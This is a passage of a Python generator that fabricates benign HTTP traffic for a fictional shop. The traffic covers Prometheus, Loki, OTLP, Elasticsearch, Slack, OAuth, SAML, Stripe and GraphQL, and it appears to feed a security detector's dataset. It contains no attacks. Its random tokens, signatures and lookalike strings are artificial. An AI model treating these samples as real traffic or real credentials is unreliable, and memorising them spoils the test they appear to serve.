            t.get("promql-get", "/api/v1/query_range?" + qs(params), client="grafana", host="prometheus-k8s.monitoring.svc:9090", extra=[("X-Grafana-Org-Id", "1")])
        else:
            t.get("promql-grafana-proxy", "/api/datasources/proxy/uid/prometheus/api/v1/query?" + qs([("query", q), ("time", str(end))]), client="chrome", host="grafana.acme-shop.com",
                  extra=[("Cookie", "grafana_session=" + c.hex(32)), ("X-Grafana-Org-Id", "1"), ("X-Dashboard-Uid", c.alnum(9)), ("X-Panel-Id", str(c.r.randrange(1, 30)))])
    for q in LOGQL:
        t.get("logql", "/loki/api/v1/query_range?" + qs([("query", q), ("limit", "1000"), ("direction", "backward"), ("start", str(c.epoch() * 10**9)), ("end", str((c.epoch() + 3600) * 10**9))]),
              client="grafana", host="loki-gateway.monitoring.svc", extra=[("X-Scope-OrgID", "shop")])
    for i in range(8):
        spans = []
        for _ in range(c.r.randrange(1, 4)):
            stmt = c.pick(DB_STATEMENTS)
            spans.append({"traceId": c.hex(32), "spanId": c.hex(16), "parentSpanId": c.hex(16), "name": stmt.split(" ")[0] + " " + c.pick(["orders", "carts", "shop"]), "kind": 3,
                          "startTimeUnixNano": str(c.epoch() * 10**9), "endTimeUnixNano": str(c.epoch() * 10**9 + c.r.randrange(10**5, 10**9)),
                          "attributes": [{"key": "db.system", "value": {"stringValue": "redis" if stmt.startswith("HGET") else "postgresql"}},
                                         {"key": "db.statement", "value": {"stringValue": stmt}},
                                         {"key": "db.name", "value": {"stringValue": "orders"}},
                                         {"key": "net.peer.name", "value": {"stringValue": "pg-primary.shop.svc"}}],
                          "status": {}})
        spans.append({"traceId": c.hex(32), "spanId": c.hex(16), "name": "GET /api/v1/orders/{id}", "kind": 2, "startTimeUnixNano": str(c.epoch() * 10**9), "endTimeUnixNano": str(c.epoch() * 10**9 + 5 * 10**7),
                      "attributes": [{"key": "http.request.method", "value": {"stringValue": "GET"}}, {"key": "url.full", "value": {"stringValue": "https://api.acme-shop.com/api/v1/orders/88123?expand=items,customer"}},
                                     {"key": "http.response.status_code", "value": {"intValue": "200"}}, {"key": "user_agent.original", "value": {"stringValue": UA["chrome"]}}]})
        body = {"resourceSpans": [{"resource": {"attributes": [{"key": "service.name", "value": {"stringValue": c.pick(["checkout", "api", "payments"])}},
                                                               {"key": "k8s.pod.name", "value": {"stringValue": "api-5d8f7c9b4-" + c.hex(5)}},
                                                               {"key": "k8s.namespace.name", "value": {"stringValue": "shop"}}]},
                                   "scopeSpans": [{"scope": {"name": "go.opentelemetry.io/contrib/instrumentation/net/http/otelhttp", "version": "0.52.0"}, "spans": spans}]}]}
        t.json("otlp-traces", "/v1/traces", body, client="otel", host="otel-collector.monitoring.svc:4318", style="compact", sidecar=False)
    for i in range(3):
        recs = [{"timeUnixNano": str(c.epoch() * 10**9), "severityText": lvl, "body": {"stringValue": msg},
                 "attributes": [{"key": "logger", "value": {"stringValue": "shop.orders"}}]}
                for lvl, msg in c.r.sample([("INFO", "order 88123 created for customer O'Neill (4411)"), ("WARN", "slow query (812ms): SELECT * FROM order_items WHERE order_id = $1"),
                                            ("ERROR", "payment provider returned 502: <html><body>Bad Gateway</body></html>"), ("INFO", "GET /api/v1/products?sort=-price&page[size]=24 200 31ms"),
                                            ("DEBUG", "cache miss key=product:sku:TEE-42 ttl=300")], 3)]
        t.json("otlp-logs", "/v1/logs", {"resourceLogs": [{"resource": {"attributes": [{"key": "service.name", "value": {"stringValue": "api"}}]}, "scopeLogs": [{"scope": {"name": "shop"}, "logRecords": recs}]}]},
               client="otel", host="otel-collector.monitoring.svc:4318", sidecar=False)
    for i in range(6):
        t.get("scrape", c.pick(["/metrics", "/metrics", "/actuator/prometheus", "/stats/prometheus"]), client="prometheus", host=f"10.244.{c.r.randrange(0, 8)}.{c.r.randrange(2, 250)}:{c.pick([8080, 9090, 9102, 15090])}",
              accept="application/openmetrics-text;version=1.0.0,application/openmetrics-text;version=0.0.1;q=0.75,text/plain;version=0.0.4;q=0.5,*/*;q=0.1", sidecar=False,
              extra=[("X-Prometheus-Scrape-Timeout-Seconds", "10")])
    for title in ["Shop / API overview", "Checkout SLO", "Postgres (orders)", "Ingress NGINX"]:
        panels = [{"id": i + 1, "type": c.pick(["timeseries", "stat", "table"]), "title": c.pick(["5xx by code", "p99 latency", "Restarts", "Active connections"]),
                   "datasource": {"type": "prometheus", "uid": "prometheus"}, "targets": [{"refId": "A", "expr": c.pick(PROMQL), "legendFormat": "{{code}}" if i == 0 else "{{pod}}"}],
                   "gridPos": {"h": 8, "w": 12, "x": 12 * (i % 2), "y": 8 * (i // 2)}} for i in range(3)]
        dash = {"dashboard": {"uid": c.alnum(9), "title": title, "tags": ["shop"], "timezone": "browser", "schemaVersion": 39, "version": c.r.randrange(1, 60),
                              "templating": {"list": [{"name": "namespace", "type": "query", "query": "label_values(kube_pod_info, namespace)", "regex": "/^(shop|payments)$/"}]},
                              "panels": panels}, "folderUid": "shop", "message": "tweak thresholds", "overwrite": False}
        t.json("grafana-dashboard", "/api/dashboards/db", dash, client="chrome", host="grafana.acme-shop.com", extra=[("Cookie", "grafana_session=" + c.hex(32)), ("X-Grafana-Org-Id", "1")])
    alerts = {"receiver": "slack-shop", "status": "firing", "groupLabels": {"alertname": "HighErrorRate"},
              "alerts": [{"status": "firing", "labels": {"alertname": "HighErrorRate", "service": "checkout", "severity": "page", "namespace": "shop"},
                          "annotations": {"summary": "High 5xx rate on checkout", "description": "checkout is failing 3.2% of requests.", "runbook_url": "https://runbooks.acme-shop.com/shop/high-error-rate"},
                          "startsAt": c.ts(), "endsAt": "0001-01-01T00:00:00Z",
                          "generatorURL": "http://prometheus-k8s.monitoring.svc:9090/graph?g0.expr=" + urllib.parse.quote_plus(PROMQL[0]) + "&g0.tab=1", "fingerprint": c.hex(16)}],
              "externalURL": "http://alertmanager.monitoring.svc:9093", "version": "4", "groupKey": "{}:{alertname=\"HighErrorRate\"}", "truncatedAlerts": 0}
    t.json("alertmanager-webhook", "/api/v1/hooks/alertmanager", alerts, client="alertmanager", host="hooks.acme-shop.com", sidecar=False)


ES_QUERIES = [
    {"query": {"bool": {"must": [{"multi_match": {"query": "union jack cushion", "fields": ["name^3", "description"], "type": "best_fields"}}],
                        "filter": [{"term": {"in_stock": True}}, {"range": {"price": {"gte": 10, "lte": 80}}}]}}, "size": 24, "from": 0,
     "sort": [{"_score": "desc"}, {"created_at": "desc"}]},
    {"query": {"query_string": {"query": "title:(select OR union) AND NOT status:draft", "default_operator": "AND"}}, "_source": ["title", "slug"]},
    {"size": 0, "aggs": {"by_brand": {"terms": {"field": "brand.keyword", "size": 20}, "aggs": {"avg_price": {"avg": {"field": "price"}}}}}},
    {"query": {"match_phrase_prefix": {"name": "drop-leaf tab"}}, "size": 8, "highlight": {"pre_tags": ["<em>"], "post_tags": ["</em>"], "fields": {"name": {}}}},
    {"query": {"function_score": {"query": {"match": {"name": "script pen"}}, "script_score": {"script": {"source": "Math.log(2 + doc['popularity'].value) * params.boost", "params": {"boost": 1.2}}}}}},
    {"query": {"bool": {"should": [{"match": {"city": "Dún Laoghaire"}}, {"match": {"city": "O'Brien's Bridge"}}], "minimum_should_match": 1}}},
    {"query": {"nested": {"path": "variants", "query": {"bool": {"must": [{"term": {"variants.size": "42"}}, {"term": {"variants.color": "black"}}]}}}}},
    {"query": {"wildcard": {"sku": {"value": "TEE-4*"}}}, "size": 50},
    {"query": {"regexp": {"order_ref": {"value": "ORD-[0-9]{4}-[A-Z]{2}"}}}},
    {"query": {"range": {"@timestamp": {"gte": "now-15m", "lt": "now"}}}, "sort": [{"@timestamp": {"order": "desc"}}], "size": 200},
    {"suggest": {"name-suggest": {"prefix": "selec", "completion": {"field": "name_suggest", "fuzzy": {"fuzziness": 1}}}}},
    {"query": {"simple_query_string": {"query": "\"alert beacon\" +light -battery", "fields": ["name", "tags"]}}},
]


def ben_search(c):
    t = Tag(c, "benign", "search")
    idx = ["products", "orders-2024.06", "logs-shop-*", "customers"]
    for q in ES_QUERIES:
        t.json("elasticsearch-dsl", f"/{c.pick(idx)}/_search" + c.pick(["", "?typed_keys=true", "?track_total_hits=true&request_cache=true"]), q,
               client="elastic-js", host="es-http.search.svc:9200", extra=[("Authorization", "ApiKey " + base64.b64encode((c.alnum(20) + ":" + c.alnum(22)).encode()).decode())])
    nd = "".join(jdump(x) + "\n" for x in [{"index": "products"}, ES_QUERIES[0], {"index": "products"}, ES_QUERIES[3]])
    t.send("elasticsearch-msearch", "POST", "/_msearch", nd, "application/x-ndjson", client="elastic-js", host="es-http.search.svc:9200")
    docs = ""
    for i in range(4):
        docs += jdump({"index": {"_index": "products", "_id": f"sku-{c.r.randrange(1000, 9999)}"}}) + "\n"
        docs += jdump({"name": c.pick(PRODUCTS), "price": round(c.r.uniform(5, 300), 2), "tags": c.r.sample(["sale", "new", "gift", "eco"], 2), "description": "Ships in 2–3 days. It's lovely."}) + "\n"
    t.send("elasticsearch-bulk", "POST", "/_bulk?refresh=wait_for", docs, "application/x-ndjson", client="python", host="es-http.search.svc:9200")
    for term in c.r.sample(SEARCH_TERMS, 28):
        k = c.r.random()
        if k < 0.45:
            t.get("site-search", "/api/v1/search?" + qs([("q", term), ("page", str(c.r.randrange(1, 4))), ("sort", c.pick(["relevance", "-price", "price", "newest"]))]))
        elif k < 0.65:
            t.get("site-search-plus", "/search?q=" + urllib.parse.quote_plus(term) + "&lang=" + c.pick(["en", "de", "ja", "ar"]), accept="text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", client=c.pick(sorted(BROWSERS)))
        elif k < 0.85:
            t.json("search-json", "/api/v2/search", {"query": term, "filters": {"in_stock": True, "category": c.pick(["home", "fashion", "books", None])}, "page": {"size": 24}})
        else:
            t.gql("search-graphql", "/graphql", GQL_SEARCH, {"search": term, "first": 24}, op="SearchProducts")


SLACK_TEXTS = ["deploy of api v3.9.0 finished :rocket: <https://argocd.acme-shop.com/applications/api-prod|argocd>",
               "can someone review <https://github.com/acme/shop-api/pull/1423|#1423>? it's the cursor pagination one",
               "<@U024BE7LH> the `SELECT count(*) FROM orders WHERE created_at > now() - interval '1 day'` query says 4,211 — matches the dashboard",
               "heads up: we'll drop the legacy_sessions table on Thursday after the backup job runs",
               "```kubectl -n shop rollout restart deploy/checkout\nkubectl -n shop rollout status deploy/checkout```",
               "Siobhán's fix for names like O'Brien is live 🎉",
               "who owns the alert \"HighErrorRate\"? it fired 3x overnight 😴",
               "تم نشر الإصدار الجديد بنجاح ✅",
               "本番環境のデプロイが完了しました 🚀",
               "PSA: union all is way faster than union here since we don't need dedupe",
               "lunch? 🍕 <!here>",
               "the cron `*/5 * * * *` for cache-warm is too aggressive, moving it to every 15m",
               "> Is the script tag in the email template safe?\nyes, it's escaped by the renderer now (see PR #1502)",
               "I'll grep the logs for `level=error path=/api/v1/carts` and report back"]


def ben_chat(c):
    t = Tag(c, "benign", "chat")
    for txt in SLACK_TEXTS:
        ev = {"token": c.alnum(24), "team_id": "T0" + c.alnum(8).upper(), "api_app_id": "A0" + c.alnum(8).upper(),
              "event": {"type": "message", "channel": "C0" + c.alnum(8).upper(), "user": "U0" + c.alnum(8).upper(), "text": txt, "ts": f"{c.epoch()}.{c.r.randrange(100000, 999999)}",
                        "event_ts": f"{c.epoch()}.{c.r.randrange(100000, 999999)}", "channel_type": "channel",
                        "blocks": [{"type": "rich_text", "block_id": c.alnum(5), "elements": [{"type": "rich_text_section", "elements": [{"type": "text", "text": txt}]}]}]},
              "type": "event_callback", "event_id": "Ev0" + c.alnum(9).upper(), "event_time": c.epoch()}
        t.json("slack-event", "/slack/events", ev, client="slack", host="bot.acme-shop.com", accept="*/*",
               extra=[("X-Slack-Signature", "v0=" + c.hex(64)), ("X-Slack-Request-Timestamp", str(c.epoch()))])
    for cmd, text in [("/deploy", "api v3.9.1 to prod"), ("/oncall", "who"), ("/incident", "checkout 5xx > 2% since 10:05 UTC"), ("/sql", "select status, count(*) from orders group by 1")]:
        t.form("slack-slash-command", "/slack/commands", [("token", c.alnum(24)), ("team_id", "T0" + c.alnum(8).upper()), ("team_domain", "acme"), ("channel_id", "C0" + c.alnum(8).upper()),
                                                           ("channel_name", "shop-eng"), ("user_id", "U0" + c.alnum(8).upper()), ("user_name", "siobhan.obrien"), ("command", cmd), ("text", text),
                                                           ("api_app_id", "A0" + c.alnum(8).upper()), ("response_url", "https://hooks.slack.com/commands/T0ABC/" + str(c.r.randrange(10**12, 10**13)) + "/" + c.alnum(24)),
                                                           ("trigger_id", f"{c.r.randrange(10**12, 10**13)}.{c.r.randrange(10**9, 10**10)}.{c.hex(32)}")],
               client="slack", host="bot.acme-shop.com", extra=[("X-Slack-Signature", "v0=" + c.hex(64)), ("X-Slack-Request-Timestamp", str(c.epoch()))])
    for i in range(4):
        payload = {"type": "block_actions", "user": {"id": "U0" + c.alnum(8).upper(), "username": "marco.dangelo", "name": "marco.dangelo"},
                   "actions": [{"action_id": "approve_deploy", "block_id": c.alnum(5), "text": {"type": "plain_text", "text": "Approve"}, "value": "api@v3.9." + str(i), "type": "button", "action_ts": f"{c.epoch()}.{c.r.randrange(100000, 999999)}"}],
                   "response_url": "https://hooks.slack.com/actions/T0ABC/" + str(c.r.randrange(10**12, 10**13)) + "/" + c.alnum(24),
                   "message": {"text": "Deploy api v3.9.%d to prod?" % i, "blocks": [{"type": "section", "text": {"type": "mrkdwn", "text": "*Deploy* `api@v3.9.%d` → *prod*\nRequested by <@U024BE7LH>" % i}}]}}
        t.form("slack-interactive", "/slack/interactive", [("payload", json.dumps(payload))], client="slack", host="bot.acme-shop.com",
               extra=[("X-Slack-Signature", "v0=" + c.hex(64)), ("X-Slack-Request-Timestamp", str(c.epoch()))])
    for txt in ["Build **#4521** failed on `main` — see [logs](https://ci.acme-shop.com/builds/4521)", "Réunion déplacée à 14h, salle « Lovelace »", "Reminder: code freeze starts Friday 18:00 CET"]:
        card = {"type": "message", "attachments": [{"contentType": "application/vnd.microsoft.card.adaptive", "content": {"$schema": "http://adaptivecards.io/schemas/adaptive-card.json", "type": "AdaptiveCard", "version": "1.4",
                                                                                                                       "body": [{"type": "TextBlock", "text": txt, "wrap": True}],
                                                                                                                       "actions": [{"type": "Action.OpenUrl", "title": "Open", "url": "https://ci.acme-shop.com/builds/4521"}]}}]}
        t.json("teams-webhook", "/webhookb2/" + c.uuid() + "@" + c.uuid() + "/IncomingWebhook/" + c.hex(32) + "/" + c.uuid(), card, client="python", host="acme.webhook.office.com")
    for txt in ["gg everyone, new release is out: **v2.4** — changelog in #announcements", "anyone else seeing `ECONNRESET` from the payments sandbox?", "Bonjour à tous ! 👋"]:
        t.json("discord-webhook", "/api/webhooks/" + str(c.r.randrange(10**17, 10**18)) + "/" + c.alnum(68), {"content": txt, "username": "shop-bot", "allowed_mentions": {"parse": []}}, client="axios", host="discord.com")
    for i in range(4):
        t.json("chat-app-message", f"/api/v1/conversations/{c.uuid()}/messages", {"message": {"text": c.pick(SLACK_TEXTS[5:]), "client_msg_id": c.uuid(), "attachments": []}}, client=c.pick(["chrome", "ios-app", "android-app"]),
               extra=[("Authorization", "Bearer " + c.jwt())])


def ben_oauth(c):
    t = Tag(c, "benign", "oauth")
    idh = "id.acme-shop.com"
    apps = [("spa-web", "https://app.acme-shop.com/callback"), ("ios", "com.acmeshop.ios:/oauth2redirect"), ("admin", "https://admin.acme-shop.com/auth/callback"),
            ("grafana", "https://grafana.acme-shop.com/login/generic_oauth"), ("argocd", "https://argocd.acme-shop.com/auth/callback")]
    for cid, redir in apps:
        t.get("authorize", "/oauth2/authorize?" + qs([("response_type", "code"), ("client_id", cid), ("redirect_uri", redir), ("scope", "openid profile email offline_access"),
                                                      ("state", c.b64url(24)), ("nonce", c.b64url(16)), ("code_challenge", c.b64url(32)), ("code_challenge_method", "S256")]),
              client=c.pick(sorted(BROWSERS)), host=idh, accept="text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")
        t.form("token-authorization-code", "/oauth2/token", [("grant_type", "authorization_code"), ("code", c.b64url(32)), ("redirect_uri", redir), ("client_id", cid), ("code_verifier", c.b64url(48))],
               client=c.pick(["axios", "ios-app", "go"]), host=idh)
        t.get("callback", "/callback?" + qs([("code", c.b64url(32)), ("state", c.b64url(24)), ("iss", "https://id.acme-shop.com/")]), host=redir.split("/")[2] if redir.startswith("https") else "app.acme-shop.com",
              client=c.pick(sorted(BROWSERS)), accept="text/html,*/*;q=0.8")
    for i in range(4):
        t.form("token-refresh", "/oauth2/token", [("grant_type", "refresh_token"), ("refresh_token", c.b64url(48)), ("client_id", c.pick(apps)[0])], client=c.pick(["axios", "android-app", "ios-app"]), host=idh)
    for cid in ["orders-service", "reports-job", "ci-deployer"]:
        basic = base64.b64encode(f"{cid}:{c.alnum(40)}".encode()).decode()
        t.form("token-client-credentials", "/oauth2/token", [("grant_type", "client_credentials"), ("scope", "orders:read inventory:write"), ("audience", "https://api.acme-shop.com")],
               client="go", host=idh, extra=[("Authorization", "Basic " + basic)])
    t.form("token-exchange", "/oauth2/token", [("grant_type", "urn:ietf:params:oauth:grant-type:token-exchange"), ("subject_token", c.jwt()), ("subject_token_type", "urn:ietf:params:oauth:token-type:access_token"),
                                               ("audience", "payments-api"), ("requested_token_type", "urn:ietf:params:oauth:token-type:access_token")], client="go", host=idh)
    t.form("token-jwt-bearer", "/oauth2/token", [("grant_type", "urn:ietf:params:oauth:grant-type:jwt-bearer"), ("assertion", c.jwt({"iss": "svc-reports@acme-prod.iam.gserviceaccount.com", "scope": "https://www.googleapis.com/auth/cloud-platform", "aud": "https://oauth2.googleapis.com/token", "exp": c.epoch() + 3600, "iat": c.epoch()}))],
           client="python", host="oauth2.googleapis.com")
    t.form("device-code", "/oauth2/device/code", [("client_id", "cli"), ("scope", "openid offline_access")], client="go", host=idh)
    t.form("introspect", "/oauth2/introspect", [("token", c.b64url(32)), ("token_type_hint", "access_token")], client="go", host=idh, extra=[("Authorization", "Basic " + base64.b64encode(b"api-gateway:" + c.alnum(32).encode()).decode())])
    t.form("revoke", "/oauth2/revoke", [("token", c.b64url(48)), ("token_type_hint", "refresh_token"), ("client_id", "spa-web")], client="chrome", host=idh)
    t.get("end-session", "/oauth2/logout?" + qs([("id_token_hint", c.jwt()), ("post_logout_redirect_uri", "https://app.acme-shop.com/signed-out?reason=user"), ("state", c.b64url(16))]), client="safari", host=idh, accept="text/html,*/*;q=0.8")
    t.get("discovery", "/.well-known/openid-configuration", client="go", host=idh)
    t.get("jwks", "/.well-known/jwks.json", client="java", host=idh)
    t.get("userinfo", "/oauth2/userinfo", client="axios", host=idh, extra=[("Authorization", "Bearer " + c.jwt())])
    for i in range(8):
        t.get("api-with-jwt", c.pick(["/api/v1/me", "/api/v1/orders?limit=20", "/api/v1/cart", "/api/v2/wishlist?page[size]=50"]), extra=[("Authorization", "Bearer " + c.jwt())])
    t.get("google-signin-callback", "/auth/google/callback?" + qs([("state", c.b64url(24)), ("code", "4/0A" + c.alnum(60)), ("scope", "email profile openid https://www.googleapis.com/auth/userinfo.email https://www.googleapis.com/auth/userinfo.profile"),
                                                                   ("authuser", "0"), ("prompt", "none")]), client="chrome", host="app.acme-shop.com", accept="text/html,*/*;q=0.8")
    t.form("apple-form-post", "/auth/apple/callback", [("state", c.b64url(24)), ("code", "c" + c.hex(40) + ".0.s" + c.alnum(4) + "." + c.alnum(22)), ("id_token", c.jwt()),
                                                       ("user", json.dumps({"name": {"firstName": "Siobhán", "lastName": "O'Brien"}, "email": "s.obrien@privaterelay.appleid.com"}))],
           client="safari", host="app.acme-shop.com")


def saml_response(c, person):
    now = c.when()
    iso = lambda d: d.strftime("%Y-%m-%dT%H:%M:%SZ")
    rid, aid = "_" + c.hex(32), "_" + c.hex(32)
    email = "".join(ch for ch in (person[0][:1] + person[1]).lower() if ch.isascii() and ch.isalnum()) + "@acme-shop.com"
    return (f'<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="{rid}" Version="2.0" '
            f'IssueInstant="{iso(now)}" Destination="https://sso.acme-shop.com/saml/acs" InResponseTo="_{c.hex(32)}">'
            f'<saml:Issuer>https://idp.acme-corp.example/saml/metadata</saml:Issuer>'
            f'<samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status>'
            f'<saml:Assertion ID="{aid}" Version="2.0" IssueInstant="{iso(now)}"><saml:Issuer>https://idp.acme-corp.example/saml/metadata</saml:Issuer>'
            f'<ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:SignedInfo><ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>'
            f'<ds:SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"/><ds:Reference URI="#{aid}"><ds:Transforms>'
            f'<ds:Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"/><ds:Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/></ds:Transforms>'
            f'<ds:DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/><ds:DigestValue>{base64.b64encode(bytes(c.r.getrandbits(8) for _ in range(32))).decode()}</ds:DigestValue></ds:Reference></ds:SignedInfo>'
            f'<ds:SignatureValue>{base64.b64encode(bytes(c.r.getrandbits(8) for _ in range(256))).decode()}</ds:SignatureValue></ds:Signature>'
            f'<saml:Subject><saml:NameID Format="urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress">{email}</saml:NameID>'
            f'<saml:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer"><saml:SubjectConfirmationData NotOnOrAfter="{iso(now + datetime.timedelta(minutes=5))}" Recipient="https://sso.acme-shop.com/saml/acs"/></saml:SubjectConfirmation></saml:Subject>'
            f'<saml:Conditions NotBefore="{iso(now - datetime.timedelta(minutes=1))}" NotOnOrAfter="{iso(now + datetime.timedelta(minutes=5))}"><saml:AudienceRestriction><saml:Audience>https://sso.acme-shop.com/saml/metadata</saml:Audience></saml:AudienceRestriction></saml:Conditions>'
            f'<saml:AuthnStatement AuthnInstant="{iso(now)}" SessionIndex="_{c.hex(16)}"><saml:AuthnContext><saml:AuthnContextClassRef>urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport</saml:AuthnContextClassRef></saml:AuthnContext></saml:AuthnStatement>'
            f'<saml:AttributeStatement><saml:Attribute Name="givenName"><saml:AttributeValue>{person[0]}</saml:AttributeValue></saml:Attribute>'
            f'<saml:Attribute Name="sn"><saml:AttributeValue>{person[1].replace("&", "&amp;").replace(chr(39), "&apos;")}</saml:AttributeValue></saml:Attribute>'
            f'<saml:Attribute Name="groups"><saml:AttributeValue>shop-engineering</saml:AttributeValue><saml:AttributeValue>vpn-users</saml:AttributeValue></saml:Attribute></saml:AttributeStatement>'
            f'</saml:Assertion></samlp:Response>')


def ben_saml(c):
    t = Tag(c, "benign", "saml")
    for i in range(6):
        xml = saml_response(c, c.pick(PEOPLE))
        t.form("saml-response-post", "/saml/acs", [("SAMLResponse", base64.b64encode(xml.encode()).decode()), ("RelayState", c.pick(["https://app.acme-shop.com/dashboard", "/admin/orders?status=open", "ss:mem:" + c.hex(40)]))],
               client=c.pick(sorted(BROWSERS)), host="sso.acme-shop.com", extra=[("Referer", "https://idp.acme-corp.example/")])
    for i in range(4):
        req = (f'<samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_{c.hex(32)}" Version="2.0" IssueInstant="{c.ts()[:19]}Z" '
               f'Destination="https://idp.acme-corp.example/saml/sso" AssertionConsumerServiceURL="https://sso.acme-shop.com/saml/acs" ProtocolBinding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST">'
               f'<saml:Issuer>https://sso.acme-shop.com/saml/metadata</saml:Issuer><samlp:NameIDPolicy Format="urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress" AllowCreate="true"/></samlp:AuthnRequest>')
        co = zlib.compressobj(9, zlib.DEFLATED, -15)
        deflated = co.compress(req.encode()) + co.flush()
        t.get("saml-request-redirect", "/saml/sso?" + qs([("SAMLRequest", base64.b64encode(deflated).decode()), ("RelayState", "https://app.acme-shop.com/orders/" + str(c.r.randrange(1000, 99999))),
                                                          ("SigAlg", "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"), ("Signature", base64.b64encode(bytes(c.r.getrandbits(8) for _ in range(256))).decode())]),
              client=c.pick(sorted(BROWSERS)), host="idp.acme-corp.example", accept="text/html,*/*;q=0.8")


def ben_forms(c):
    t = Tag(c, "benign", "forms")
    for i in range(10):
        p = c.pick(PEOPLE)
        pairs = [("mode", "payment"), ("success_url", "https://shop.acme-shop.com/checkout/success?session_id={CHECKOUT_SESSION_ID}"), ("cancel_url", "https://shop.acme-shop.com/cart"),
                 ("customer_email", "".join(ch for ch in (p[0][:1] + p[1]).lower() if ch.isascii() and ch.isalnum()) + "@example.com")]
        for j in range(c.r.randrange(1, 4)):
            pairs += [(f"line_items[{j}][price]", "price_1" + c.alnum(23)), (f"line_items[{j}][quantity]", str(c.r.randrange(1, 4)))]
        pairs += [("metadata[order_id]", f"ORD-{c.r.randrange(10000, 99999)}"), ("metadata[customer_name]", f"{p[0]} {p[1]}"), ("payment_method_types[]", "card"),
                  ("shipping_address_collection[allowed_countries][]", "IE"), ("shipping_address_collection[allowed_countries][]", "GB"), ("locale", c.pick(["auto", "fr", "ja"]))]
        t.form("stripe-checkout-session", "/v1/checkout/sessions", pairs, client="stripe-python", host="api.stripe.com",
               extra=[("Authorization", "Bearer sk_test_" + c.alnum(24)), ("Idempotency-Key", c.uuid()), ("Stripe-Version", "2024-06-20")])
    for i in range(8):
        p = c.pick(PEOPLE)
        a = c.pick(ADDRESSES)
        pairs = [("amount", str(c.r.randrange(500, 50000))), ("currency", c.pick(["eur", "gbp", "usd", "jpy"])), ("automatic_payment_methods[enabled]", "true"),
                 ("shipping[name]", f"{p[0]} {p[1]}"), ("shipping[address][line1]", a[0]), ("shipping[address][city]", a[1]), ("shipping[address][postal_code]", a[2]),
                 ("shipping[address][country]", a[3]), ("description", "Order for " + c.pick(PRODUCTS)), ("expand[]", "latest_charge"), ("metadata[cart_id]", c.uuid())]
        t.form("stripe-payment-intent", "/v1/payment_intents", pairs, client="Stripe/v1 NodeBindings/16.2.0", host="api.stripe.com", extra=[("Authorization", "Bearer sk_test_" + c.alnum(24))])
    for i in range(4):
        evt = {"id": "evt_" + c.alnum(24), "object": "event", "api_version": "2024-06-20", "created": c.epoch(), "type": c.pick(["payment_intent.succeeded", "checkout.session.completed", "charge.refunded", "invoice.paid"]),
               "data": {"object": {"id": "pi_" + c.alnum(24), "object": "payment_intent", "amount": c.r.randrange(500, 50000), "currency": "eur", "status": "succeeded",
                                   "metadata": {"order_id": f"ORD-{c.r.randrange(10000, 99999)}"}, "shipping": {"name": " ".join(c.pick(PEOPLE)), "address": dict(zip(["line1", "city", "postal_code", "country"], c.pick(ADDRESSES)))}}},
               "livemode": False, "pending_webhooks": 1, "request": {"id": "req_" + c.alnum(14), "idempotency_key": c.uuid()}}
        t.json("stripe-webhook", "/api/v1/hooks/stripe", evt, client="stripe", host="hooks.acme-shop.com", accept="*/*; q=0.5, application/xml",
               extra=[("Stripe-Signature", f"t={c.epoch()},v1={c.hex(64)},v0={c.hex(64)}")], style="pretty")
    for i in range(8):
        p = c.pick(PEOPLE)
        a = c.pick(ADDRESSES)
        t.form("checkout-form", "/checkout/address", [("address[first_name]", p[0]), ("address[last_name]", p[1]), ("address[line1]", a[0]), ("address[line2]", c.pick(["", "c/o Reception", "Floor 3"])),
                                                      ("address[city]", a[1]), ("address[postcode]", a[2]), ("address[country]", a[3]), ("address[phone]", c.pick(["+353 1 555 0142", "+44 20 7946 0958", "+81 3-1234-5678", "+966 11 555 0199"])),
                                                      ("delivery[notes]", c.pick(["Leave with the neighbour at no. 14", "Ring twice – bell's broken", "", "Don't leave it outside please!", "配達前に電話してください"])),
                                                      ("authenticity_token", c.b64url(64))],
               client=c.pick(sorted(BROWSERS)), host="shop.acme-shop.com", accept="text/html,application/xhtml+xml,*/*;q=0.8",
               extra=[("Cookie", "_shop_session=" + c.b64url(96)), ("Referer", "https://shop.acme-shop.com/checkout/address")])


GQL_DOCS = [
    ("ProductPage", "fragment PriceParts on Money { amount currency }\n\nfragment VariantParts on Variant {\n  id\n  sku\n  size\n  price { ...PriceParts }\n  compareAt: compareAtPrice { ...PriceParts }\n}\n\nquery ProductPage($slug: String!, $withReviews: Boolean = false) {\n  product(slug: $slug) {\n    id\n    name\n    description(format: HTML)\n    variants(first: 20) { ...VariantParts }\n    reviews(first: 5) @include(if: $withReviews) { edges { node { rating body author { displayName } } } }\n  }\n}",
     lambda c: {"slug": c.pick(["union-jack-cushion-cover", "drop-leaf-dining-table", "script-pro-fountain-pen"]), "withReviews": True}),
    ("AddToCart", "mutation AddToCart($cartId: ID!, $lines: [CartLineInput!]!) {\n  cartLinesAdd(cartId: $cartId, lines: $lines) {\n    cart { id totalQuantity cost { totalAmount { amount currencyCode } } }\n    userErrors { field message }\n  }\n}",
     lambda c: {"cartId": "gid://shop/Cart/" + c.alnum(26), "lines": [{"merchandiseId": "gid://shop/ProductVariant/" + str(c.r.randrange(10**6, 10**7)), "quantity": c.r.randrange(1, 4), "attributes": [{"key": "gift_message", "value": c.pick(["Happy birthday, Seán!", "For D'Angelo — congrats 🎉", "おめでとう！"])}]}]}),
